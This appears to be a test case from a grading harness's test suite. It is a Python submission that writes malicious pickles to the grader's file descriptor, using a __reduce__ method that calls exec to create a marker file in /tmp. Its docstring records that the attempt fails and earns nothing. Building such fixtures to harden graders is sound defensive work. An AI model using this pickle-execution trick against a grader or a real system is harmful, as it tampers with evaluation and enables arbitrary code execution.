"""Tries: to send a pickle that runs a command when it is loaded.

Happens: Nothing is ever unpickled: it is no frame.
"""
# outcome: protocol
# earns: 0

import os
import pickle


class Command:
    def __reduce__(self):
        return exec, ("open('/tmp/deltagrade-was-here', 'w')",)


os.write(3, pickle.dumps(Command()) * 10)


def answer(W, x):
    return W @ x
